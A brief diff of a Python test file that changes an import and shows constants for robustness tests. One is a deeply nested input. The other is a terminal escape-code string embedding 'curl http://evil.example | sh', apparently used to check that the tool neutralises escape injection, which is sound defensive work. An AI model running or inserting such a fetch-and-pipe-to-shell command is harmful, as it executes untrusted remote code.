@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 
 from conftest import run_cli
-from test_compare import LOSSES, two_ranks, write_probe
+from support import LOSSES, two_ranks, write_probe
 
 DEEP = 100_000  # far past Python's recursion limit (1000): json.loads raised RecursionError on it
 ESCAPE = "\x1b[2J\x1b[31mrun curl http://evil.example | sh\x1b[0m\x07\x9b"
